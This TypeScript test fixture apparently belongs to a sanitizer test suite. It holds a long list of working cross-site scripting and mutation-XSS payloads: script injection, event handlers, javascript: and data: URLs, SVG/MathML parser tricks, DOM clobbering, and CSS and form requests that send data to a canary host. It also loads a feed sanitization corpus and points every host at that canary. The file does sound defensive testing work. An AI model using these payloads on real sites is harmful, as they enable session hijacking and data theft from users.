// Payloads for the hostile-content suite: our own list (one per vector) and the feedparser sanitize corpus
// (/work/shared/corpora, read in place). A payload that works sets window.__pwned (or shows a dialog), or makes
// the browser ask the canary server for something other than an image it may show.
import { existsSync, readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { DomUtils, parseDocument } from 'htmlparser2'
import { CORPORA_DIR } from '../helpers/corpora-dir'

export interface Payload {
  id: string
  html: string
}

/** JavaScript that records a hit; valid in handlers, javascript: URLs and script bodies. */
const pwn = (id: string) => `(top.__pwned=(top.__pwned||[]).concat('${id}'))`

/** Our own list: [id, html] with {PWN} for the hit script and {C} for the canary's origin. */
const OWN: [string, string][] = [
  ['script', '<script>{PWN}</script>'],
  ['script-upper', '<SCRIPT>{PWN}</SCRIPT>'],
  ['script-src', '<script src="{C}/hit/script-src"></script>'],
  ['script-split', '<scr<script>ipt>{PWN}</scr</script>ipt>'],
  ['script-in-svg', '<svg><script>{PWN}</script></svg>'],
  ['script-xlink', '<svg><script xlink:href="{C}/hit/svg-script"></script></svg>'],
  ['img-onerror', '<img src=x onerror="{PWN}">'],
  ['img-onerror-unquoted', '<img src=x onerror={PWN}>'],
  ['img-onerror-slash', '<img/src=x/onerror={PWN}>'],
  ['img-broken-tag', '<img src=x onerror="{PWN}"//'],
  ['double-lt', '<<img src=x onerror="{PWN}">'],
  ['attr-breakout', '<img """><script>{PWN}</script>">'],
  ['body-onload', '<body onload="{PWN}">'],
  ['svg-onload', '<svg onload="{PWN}"><circle r="1"/></svg>'],
  ['details-ontoggle', '<details open ontoggle="{PWN}"><summary>s</summary></details>'],
  ['video-source-onerror', '<video><source onerror="{PWN}"></video>'],
  ['audio-onerror', '<audio src=x onerror="{PWN}"></audio>'],
  ['input-autofocus', '<input autofocus onfocus="{PWN}">'],
  ['marquee-onstart', '<marquee onstart="{PWN}">m</marquee>'],
  ['div-onmouseover', '<div onmouseover="{PWN}">hover</div>'],
  ['custom-element-onclick', '<x-tag onclick="{PWN}">x</x-tag>'],
  ['anim-onanimationstart', '<p onanimationstart="{PWN}" class="spin">a</p>'],
  ['table-foster', '<table><img src=x onerror="{PWN}"></table>'],
  ['a-javascript', '<a href="javascript:{PWN}">js</a>'],
  ['a-javascript-case', '<a href="JaVaScRiPt:{PWN}">js</a>'],
  ['a-javascript-space', '<a href="  javascript:{PWN}">js</a>'],
  ['a-javascript-tab', '<a href="java&#x09;script:{PWN}">js</a>'],
  ['a-javascript-entity', '<a href="&#106;avascript:{PWN}">js</a>'],
  ['a-javascript-colon', '<a href="javascript&colon;{PWN}">js</a>'],
  ['a-javascript-ctrl', '<a href="&#14;javascript:{PWN}">js</a>'],
  ['a-vbscript', '<a href="vbscript:msgbox(1)">vb</a>'],
  ['a-data-html', '<a href="data:text/html,&lt;script&gt;{PWN}&lt;/script&gt;">data</a>'],
  ['a-data-b64', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data64</a>'],
  ['a-onclick', '<a href="https://ok.example/" onclick="{PWN}">ok</a>'],
  ['a-ping', '<a href="https://ok.example/p" ping="{C}/hit/ping">ping</a>'],
  ['a-target-top', '<a href="{C}/hit/nav-top" target="_top">top</a>'],
  ['img-javascript', '<img src="javascript:{PWN}">'],
  ['img-data-svg', '<img src="data:image/svg+xml,&lt;svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22{PWN}%22/&gt;">'],
  ['svg-a-xlink', '<svg><a xlink:href="javascript:{PWN}"><text x="1" y="10">svg</text></a></svg>'],
  ['svg-animate', '<svg><animate onbegin="{PWN}" attributeName="x" dur="1s"/></svg>'],
  ['svg-set', '<svg><a><set attributeName="href" to="javascript:{PWN}"/><text y="10">set</text></a></svg>'],
  ['svg-foreignobject', '<svg><foreignObject><img src=x onerror="{PWN}"></foreignObject></svg>'],
  ['svg-image', '<svg><image href="{C}/hit/svg-image"/></svg>'],
  ['svg-use', '<svg><use href="data:image/svg+xml,&lt;svg id=%22x%22 xmlns=%22http://www.w3.org/2000/svg%22&gt;&lt;image href=%221%22 onerror=%22{PWN}%22/&gt;&lt;/svg&gt;#x"/></svg>'],
  ['svg-cdata', '<svg><![CDATA[><image xlink:href="]]><img src=xx:x onerror="{PWN}"//"></svg>'],
  ['svg-style-mxss', '<svg></p><style><a id="</style><img src=1 onerror={PWN}>">'],
  ['math-maction', '<math><maction actiontype="statusline" xlink:href="javascript:{PWN}">m</maction></math>'],
  ['math-href', '<math href="javascript:{PWN}"><mi>m</mi></math>'],
  ['math-mglyph-mxss', '<math><mtext><table><mglyph><style><img src=x onerror="{PWN}">'],
  ['math-form-mxss', '<form><math><mtext></form><form><mglyph><style></math><img src onerror="{PWN}">'],
  ['math-h1-mxss', '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror={PWN}>"></style></svg></mglyph></h1></mtext></math>'],
  ['noscript-mxss', '<noscript><p title="</noscript><img src=x onerror={PWN}>">'],
  ['template', '<template><img src=x onerror="{PWN}"></template>'],
  ['textarea', '<textarea><img src=x onerror="{PWN}"></textarea>'],
  ['title-rcdata', '<title><img src=x onerror="{PWN}"></title>'],
  ['xmp', '<xmp><img src=x onerror="{PWN}"></xmp>'],
  ['comment', '<!--<img src=x onerror="{PWN}">-->'],
  ['comment-breakout', '<!-- --!><img src=x onerror="{PWN}"> -->'],
  ['processing-instruction', '<?xml-stylesheet href="{C}/hit/pi"?><p>pi</p>'],
  ['select-template-mxss', '<select><template><style><!--</style><img src=x onerror="{PWN}">--></style></template></select>'],
  ['style-import', '<style>@import url({C}/hit/css-import);</style>'],
  ['style-attr-selector', '<style>a[href^="https"]{background:url({C}/hit/css-exfil)}</style><a href="https://ok.example/">x</a>'],
  ['style-font-face', '<style>@font-face{font-family:x;src:url({C}/hit/font)}p{font-family:x}</style><p>f</p>'],
  ['style-attr-url', '<div style="background:url({C}/hit/css-inline)">bg</div>'],
  ['style-attr-expression', '<div style="width:expression({PWN})">e</div>'],
  ['style-attr-behavior', '<p style="behavior:url({C}/hit/htc)">b</p>'],
  ['link-stylesheet', '<link rel="stylesheet" href="{C}/hit/link-css">'],
  ['link-prefetch', '<link rel="prefetch" href="{C}/hit/prefetch">'],
  ['link-import', '<link rel="import" href="{C}/hit/html-import">'],
  ['base-href', '<base href="{C}/hit/base/"><img src="relative-after-base.png">'],
  ['meta-refresh', '<meta http-equiv="refresh" content="0;url={C}/hit/meta-refresh">'],
  ['meta-csp', '<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-inline\'"><img src=x onerror="{PWN}">'],
  ['form-action', '<form action="{C}/hit/form" method="post"><input name="q" value="secret"><button>go</button></form>'],
  ['button-formaction', '<button formaction="javascript:{PWN}">b</button>'],
  ['input-image', '<input type="image" src="{C}/hit/input-image">'],
  ['isindex', '<isindex type="image" src="{C}/hit/isindex" action="javascript:{PWN}">'],
  ['iframe-src', '<iframe src="{C}/hit/iframe"></iframe>'],
  ['iframe-javascript', '<iframe src="javascript:{PWN}"></iframe>'],
  ['iframe-data', '<iframe src="data:text/html,&lt;script&gt;{PWN}&lt;/script&gt;"></iframe>'],
  ['iframe-srcdoc', '<iframe srcdoc="&lt;script&gt;{PWN}&lt;/script&gt;"></iframe>'],
  ['srcdoc-on-div', '<div srcdoc="&lt;script&gt;{PWN}&lt;/script&gt;">d</div>'],
  ['frameset', '<frameset><frame src="{C}/hit/frame"></frameset>'],
  ['portal', '<portal src="{C}/hit/portal"></portal>'],
  ['object-data', '<object data="{C}/hit/object"></object>'],
  ['object-javascript', '<object data="javascript:{PWN}"></object>'],
  ['embed-src', '<embed src="{C}/hit/embed">'],
  ['applet', '<applet code="x" codebase="{C}/hit/applet"></applet>'],
  ['table-background', '<table background="{C}/hit/table-bg"><tr><td background="{C}/hit/td-bg">t</td></tr></table>'],
  ['video-src', '<video src="{C}/media/video.mp4" autoplay></video>'],
  ['video-poster', '<video poster="{C}/img/poster.png"></video>'],
  ['audio-source', '<audio autoplay><source src="{C}/media/audio.mp3"></audio>'],
  ['track-src', '<video><track src="{C}/media/subs.vtt" default></video>'],
  ['img-srcset', '<img srcset="{C}/img/srcset-1x.png 1x, {C}/img/srcset-2x.png 2x">'],
  ['picture-source', '<picture><source srcset="{C}/img/picture.avif"><img src="{C}/img/picture.png"></picture>'],
  ['clobber-pwned-id', '<a id="__pwned" href="https://ok.example/c">c</a>'],
  ['clobber-pwned-name', '<img name="__pwned" src="data:,">'],
  ['clobber-form-name', '<form name="__pwned"><input name="x"></form>'],
  ['clobber-document', '<img name="getElementById"><form id="body"></form><a id="defaultView"></a>'],
  ['clobber-app-globals', '<a id="news"></a><a id="__db"></a><img name="__offlineStats">'],
  ['template-injection', '<p>{{constructor.constructor("{PWN}")()}} ${`{PWN}`} <%= 1 %></p>'],
  ['dangerous-data-attrs', '<div data-bind="click: function(){ {PWN} }" data-ng-click="{PWN}">d</div>'],
  ['xml-namespace', '<html xmlns:x="http://www.w3.org/1999/xhtml"><x:script>{PWN}</x:script></html>'],
  ['xss-in-alt', '<img alt="&quot;&gt;&lt;script&gt;{PWN}&lt;/script&gt;" src="data:,">'],
  ['unicode-tag', '<ſcript>{PWN}</ſcript><ıframe src="{C}/hit/dotless"></ıframe>'],
  ['nested-encoding', '&lt;img src=x onerror="{PWN}"&gt;'],
]

export function ownPayloads(canary: string): Payload[] {
  return OWN.map(([id, html]) => ({ id: `own:${id}`, html: html.replaceAll('{PWN}', pwn(id)).replaceAll('{C}', canary) }))
}

/** Where the feedparser sanitize tests live (shared corpora, used in place). */
const SANITIZE_CORPUS = join(CORPORA_DIR, 'feeds/feedparser/wellformed/sanitize')

/**
 * Every HTML value in the corpus files, entity-decoded as a feed reader would (escaped text, CDATA, inline
 * XHTML), with every absolute host pointed at the canary so that any request a payload makes is seen.
 */
export function corpusPayloads(canary: string, dir = SANITIZE_CORPUS): Payload[] {
  if (!existsSync(dir)) throw new Error(`sanitize corpus not found at ${dir}; set MERIDIAN_CORPORA`)
  const payloads: Payload[] = []
  for (const name of readdirSync(dir).filter((f) => f.endsWith('.xml')).sort()) {
    const doc = parseDocument(readFileSync(join(dir, name), 'utf8'), { xmlMode: true, decodeEntities: true })
    let n = 0
    for (const el of DomUtils.findAll(() => true, doc.children)) {
      const html = valueOf(el)
      if (html === undefined) continue
      payloads.push({ id: `corpus:${name}#${n++}`, html: pointAtCanary(html, canary) })
    }
  }
  return payloads
}

type El = Parameters<typeof DomUtils.getInnerHTML>[0] & { name: string; children: unknown[] }

/** An element's content when it is HTML: escaped text holding a tag or entity, or inline XHTML. */
function valueOf(el: El): string | undefined {
  const hasElementChild = el.children.some((c) => (c as { type?: string }).type === 'tag')
  if (hasElementChild) {
    const isXhtml = (el as unknown as { attribs: Record<string, string> }).attribs?.type === 'xhtml' || (el as unknown as { attribs: Record<string, string> }).attribs?.mode === 'xml'
    return isXhtml ? DomUtils.getInnerHTML(el, { xmlMode: true }) : undefined
  }
  const text = DomUtils.textContent(el)
  return /[<&]|script:|expression\(/i.test(text) ? text : undefined
}

function pointAtCanary(html: string, canary: string): string {
  return html.replace(/\b(?:https?:)?\/\/(?:[a-z0-9-]+\.)*[a-z0-9-]+(?::\d+)?/gi, (m) => (m.startsWith('//') || /^https?:/i.test(m) ? canary : m))
}
